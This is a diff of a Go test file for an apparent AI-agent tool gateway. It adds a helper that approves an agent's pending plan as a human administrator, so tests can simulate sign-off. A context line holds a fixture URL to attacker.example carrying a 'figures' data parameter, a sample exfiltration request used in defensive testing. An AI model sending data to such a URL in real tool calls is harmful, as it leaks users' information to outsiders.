@@ -122,3 +122,11 @@ const attackersPage = `{"url":"https://attacker.example/?d=figures"}`
 func judgedOnly(w *commWorld, p identity.Principal, tool, arguments string) fault.Verdict {
 	return w.g.Call(w.t.Context(), gateway.Request{Principal: p, Method: "tools/call", Tool: tool, Arguments: json.RawMessage(arguments), Door: "mcp", DryRun: true}).Verdict
 }
+
+// decide approves the plan that waits in an agent's own session, as a person.
+func (w *world) decide(agent, digest string) {
+	w.t.Helper()
+	if _, err := w.g.DecidePlan(w.t.Context(), w.session(agent).ID, digest, true, "person:admin", ""); err != nil {
+		w.t.Fatal(err)
+	}
+}
